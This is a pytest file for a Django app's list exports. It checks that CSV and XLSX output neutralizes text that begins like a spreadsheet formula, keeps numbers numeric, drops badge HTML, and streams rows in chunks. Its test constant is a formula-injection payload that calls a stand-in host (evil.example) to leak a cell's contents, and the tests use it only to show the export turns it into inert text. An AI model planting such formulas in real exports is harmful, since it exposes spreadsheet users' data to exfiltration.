"""Exports hold values, never live formulas or markup ("Trustworthy records", #21).

A member's text reaches the process group's spreadsheet through every list
export: text a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``,
tab, carriage return first) is neutralized — a leading ``'`` in CSV, a text cell
in XLSX — while numbers, negative ones included, stay numbers; and a cell the
page shows as a badge goes out as its text. ``tests/gates/test_exports.py``
holds this for every list page."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from opf.core.ui.export import csv_cell, is_formula
from tests.factories import ProjectFactory
from tests.lessons.factories import MeasureFactory, NonComplianceFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_cells(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [list(row) for row in sheet.iter_rows()]


def test_a_lesson_titled_as_a_formula_exports_as_text(people, client_as):
    submitted = client_as(people.member).post(
        "/lessons/submit/",
        {"title": HYPERLINK, "what_happened": "Late.", "next_time": "Early.", "tags": "@cmd"},
    )
    assert submitted.status_code == 302
    client = client_as(people.epg)
    rows = csv_rows(client.get("/lessons/", {"_export": "csv"}))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][1] == "'@cmd"
    cells = xlsx_cells(client.get("/lessons/", {"_export": "xlsx"}))
    title, tags = cells[1][0], cells[1][1]
    assert (title.value, title.data_type) == (HYPERLINK, "s")  # "f" would be a live formula
    assert (tags.value, tags.data_type) == ("@cmd", "s")
    assert title.quotePrefix  # Excel keeps it text when the cell is edited


def test_numbers_stay_numbers_negative_ones_too(people, client_as):
    project = ProjectFactory(manager=people.pm)
    measure = MeasureFactory(name="-Defects")  # text with a minus first is still text
    from lessons.models import Measurement

    Measurement.objects.create(
        measure=measure, project=project, period=timezone.localdate().replace(day=1), value=-3.5
    )
    client = client_as(people.epg)
    row = csv_rows(client.get("/measurements/", {"_export": "csv"}))[1]
    assert row[0] == "'-Defects"
    assert "-3.5000" in row and "'-3.5000" not in row
    cells = xlsx_cells(client.get("/measurements/", {"_export": "xlsx"}))[1]
    value = next(c for c in cells if c.data_type == "n")
    assert Decimal(str(value.value)) == Decimal("-3.5")
    assert cells[0].value == "-Defects" and cells[0].data_type == "s"


def test_only_text_is_neutralized():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert is_formula(value) and csv_cell(value) == "'" + value
    for value in (-1, -1.5, Decimal("-2"), None, "a=b", " =1", ""):
        assert not is_formula(value) and csv_cell(value) == value


def test_a_cell_shown_as_a_badge_exports_as_its_value(people, client_as):
    due = timezone.localdate() - timedelta(days=3)
    NonComplianceFactory(title="Late review", due_date=due)
    client = client_as(people.epg)
    assert 'class="badge warn"' in client.get("/non-compliances/").content.decode()
    text = b"".join(client.get("/non-compliances/", {"_export": "csv"}).streaming_content)
    assert b"<span" not in text and b"badge" not in text
    assert due.isoformat().encode() in text
    cells = xlsx_cells(client.get("/non-compliances/", {"_export": "xlsx"}))
    assert not any("<" in str(c.value) for row in cells for c in row)


def test_the_people_list_exports_each_persons_roles(people, client_as):
    rows = csv_rows(client_as(people.epg).get("/people/", {"_export": "csv"}))
    roles = {row[0]: row[4] for row in rows[1:]}
    assert roles["pm"] == "Project manager, Member" and roles["member"] == "Member"


def export_peak(client, url: str, wanted: str) -> tuple[int, int]:
    """The most memory Python held at once while ``url`` was exported and read
    (each piece dropped once read, as a server sends it on), and the bytes sent."""
    tracemalloc.start()
    try:
        response = client.get(url, {"_export": wanted})
        assert response.status_code == 200
        sent = sum(len(piece) for piece in response.streaming_content)
        return tracemalloc.get_traced_memory()[1], sent
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("wanted", ["csv", "xlsx"])
def test_an_export_holds_a_chunk_in_memory_never_the_table(wanted, people, client_as, settings):
    """Ten times the rows, about the same peak memory (1.2-1.3 times: the pieces
    sent are a few hundred rows): the rows are read through a cursor a chunk at a
    time and sent (CSV) or written to a file (XLSX) as they come. Reading the whole
    list first makes the peak four times as high here."""
    settings.OPF_EXPORT_CHUNK = 100
    project = ProjectFactory(manager=people.pm)
    measures = MeasureFactory.create_batch(30)
    first = timezone.localdate().replace(day=1)
    months = [(first - timedelta(days=31 * n)).replace(day=1) for n in range(100)]
    from lessons.models import Measurement

    def add(count: int, start: int) -> None:
        Measurement.objects.bulk_create(
            Measurement(
                measure=measures[n % 30],
                project=project,
                period=months[n // 30],
                value=Decimal(n) / 7,
                note=f"Measured by the team, the usual way, number {n}",
            )
            for n in range(start, start + count)
        )

    client = client_as(people.epg)
    add(300, 0)
    export_peak(client, "/measurements/", wanted)  # warm: imports, URL conf, templates
    small, small_sent = export_peak(client, "/measurements/", wanted)
    add(2700, 300)
    large, large_sent = export_peak(client, "/measurements/", wanted)
    assert large_sent > 5 * small_sent  # the rows are there: the export grew
    assert large < 2 * small, f"peak {small:,} bytes for 300 rows, {large:,} for 3,000"


def test_joined_records_are_read_once_per_chunk_as_a_prefetch_would(people):
    """``with_relations`` reads a chunk's ``select_related`` records itself, cheaper
    than Django's prefetch: the same queries (one per relation per chunk, none for a
    relation no row names), the same records on every row, each related record made
    once per chunk."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from deployment.models import ProjectDeployment
    from opf.core.ui.export import prefetched, with_relations
    from tests.deployment.factories import AssetVersionFactory, ProjectDeploymentFactory

    projects = [ProjectFactory(manager=people.pm), ProjectFactory(manager=None)]
    versions = AssetVersionFactory.create_batch(3)
    for n in range(5):
        ProjectDeploymentFactory(project=projects[n % 2], asset_version=versions[n // 2])
    rows = ProjectDeployment.objects.select_related(
        "project__org_unit", "project__manager", "asset_version__asset", "plan"
    ).order_by("pk")

    def read(records) -> tuple[list, int]:
        with CaptureQueriesContext(connection) as ctx:
            found = [
                (
                    r.pk,
                    r.project.name,
                    r.project.org_unit.name,
                    r.project.manager,
                    str(r.asset_version),
                    r.plan,
                )
                for r in records
            ]
        return found, len(ctx.captured_queries)

    ours, queries = read(with_relations(rows, 2))
    theirs, their_queries = read(prefetched(rows).iterator(chunk_size=2))
    assert ours == theirs
    assert len(ours) == 5
    # 3 chunks x (project, org unit, manager, version, asset; no plan named), the cursor
    assert queries == their_queries
    chunk = list(with_relations(rows, 5))
    assert chunk[0].project is chunk[2].project  # made once, shared by its rows
